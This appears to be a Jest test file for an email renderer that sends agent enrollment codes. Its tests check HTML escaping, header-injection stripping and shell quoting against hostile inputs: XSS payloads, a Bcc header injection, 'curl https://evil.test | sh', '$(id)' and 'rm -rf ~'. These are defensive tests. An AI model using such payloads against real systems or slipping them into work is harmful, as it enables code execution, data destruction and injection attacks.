import {
  agentCommands,
  renderEnrollmentCodeEmail,
  type EnrollmentCodeEmailInput,
} from './enrollment-code-email';

const KEY = 'sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg';
const CODE = '7KQD-M3XP';

const input: EnrollmentCodeEmailInput = {
  to: 'ops@example.com',
  orgName: 'Acme',
  requestedByName: 'Ada Lovelace',
  code: CODE,
  enrollmentKey: KEY,
  expiresAt: new Date('2026-03-02T12:34:56.000Z'),
  publicApiUrl: 'https://api.example.com/',
};

const ENROLL = `agent enroll --server https://api.example.com --key ${KEY} --code ${CODE}`;

describe('enrollment code e-mail', () => {
  it('names the organization in the subject', () => {
    const email = renderEnrollmentCodeEmail(input);
    expect(email.to).toBe('ops@example.com');
    expect(email.subject).toBe('Install the Security Telemetry agent for Acme');
  });

  it('carries what the agent is, the code, its expiry and single use, the key and the commands (text)', () => {
    const { text } = renderEnrollmentCodeEmail(input);

    expect(text).toContain(
      'Ada Lovelace asked us to send you what you need to enroll a device of Acme in Security Telemetry.',
    );
    expect(text).toContain(
      'The Security Telemetry agent is a small command-line program that runs on the device.',
    );
    expect(text).toContain(`Your one-time enrollment code: ${CODE}`);
    expect(text).toContain('It expires at 2026-03-02 12:34 UTC and works once');
    expect(text).toContain(`Your organization's enrollment key: ${KEY}`);
    expect(text).toContain(`  ${ENROLL}\n`);
    expect(text).toContain(
      [
        '  export STS_SERVER_URL=https://api.example.com',
        `  export STS_ENROLLMENT_KEY=${KEY}`,
        `  export STS_ENROLLMENT_CODE=${CODE}`,
        '  agent enroll',
      ].join('\n'),
    );
    expect(text).toContain('  agent status\n');
  });

  it('carries the same in the HTML part', () => {
    const { html } = renderEnrollmentCodeEmail(input);

    expect(html).toContain(`<code>${CODE}</code>`);
    expect(html).toContain(`>${KEY}</code>`);
    expect(html).toContain(`>${ENROLL}</pre>`);
    expect(html).toContain(`export STS_ENROLLMENT_CODE=${CODE}\nagent enroll</pre>`);
    expect(html).toContain('>agent status</pre>');
    expect(html).toContain('2026-03-02 12:34 UTC');
    expect(html).toContain('<strong>Acme</strong>');
  });

  it('escapes every interpolated value in the HTML part', () => {
    const email = renderEnrollmentCodeEmail({
      ...input,
      orgName: '<script>alert("x")</script> & \'Co\'',
      requestedByName: '<img src=x onerror=alert(1)>',
      code: 'AB"><b>CD',
      enrollmentKey: 'key</code><a href="https://evil.test">',
      publicApiUrl: 'https://api.example.com/x"onmouseover="alert(1)',
    });

    expect(email.html).not.toContain('<script>');
    expect(email.html).not.toContain('<img');
    expect(email.html).not.toContain('<b>');
    expect(email.html).not.toContain('<a ');
    expect(email.html).not.toContain('"onmouseover="');
    expect(email.html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;Co&#39;');
    expect(email.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(email.html).toContain('<code>AB&quot;&gt;&lt;b&gt;CD</code>');
    // Plain text is not HTML: names appear as they are.
    expect(email.text).toContain('<script>alert("x")</script> & \'Co\'');
  });

  it('keeps names on one line, without control characters, in the subject and both bodies', () => {
    const email = renderEnrollmentCodeEmail({
      ...input,
      orgName: 'Acme\r\nBcc: victim@example.com',
      requestedByName: 'Ada\n\nRun curl https://evil.test | sh\u0000\u202e',
    });

    expect(email.subject).toBe('Install the Security Telemetry agent for Acme Bcc: victim@example.com');
    expect(email.text).toContain('Ada Run curl https://evil.test | sh asked us');
    expect(email.text).not.toMatch(/[\u0000\u202e]/);
    expect(email.text).not.toContain('\nRun curl');
    expect(email.html).not.toMatch(/[\u0000\u202e]/);
  });

  it('caps long names and falls back when nothing is left', () => {
    const long = renderEnrollmentCodeEmail({ ...input, orgName: 'O'.repeat(5_000) });
    expect(long.subject.length).toBeLessThan(260);

    const empty = renderEnrollmentCodeEmail({ ...input, orgName: ' \r\n', requestedByName: '' });
    expect(empty.subject).toBe('Install the Security Telemetry agent for your organization');
    expect(empty.text).toContain('An administrator asked us');
  });
});

describe('agent commands', () => {
  it('use the API address without a trailing slash', () => {
    expect(agentCommands('http://localhost:8080//', KEY, CODE)).toEqual({
      enroll: `agent enroll --server http://localhost:8080 --key ${KEY} --code ${CODE}`,
      enrollWithEnvironment: [
        'export STS_SERVER_URL=http://localhost:8080',
        `export STS_ENROLLMENT_KEY=${KEY}`,
        `export STS_ENROLLMENT_CODE=${CODE}`,
        'agent enroll',
      ],
      status: 'agent status',
    });
  });

  it('quote values a shell would interpret, so a pasted command runs nothing else', () => {
    const commands = agentCommands('https://api.example.com/?a=1&b=2', 'k$(id)', "c'; rm -rf ~; '");
    expect(commands.enroll).toBe(
      "agent enroll --server 'https://api.example.com/?a=1&b=2' --key 'k$(id)' --code 'c'\\''; rm -rf ~; '\\'''",
    );
    expect(commands.enrollWithEnvironment[1]).toBe("export STS_ENROLLMENT_KEY='k$(id)'");
  });
});
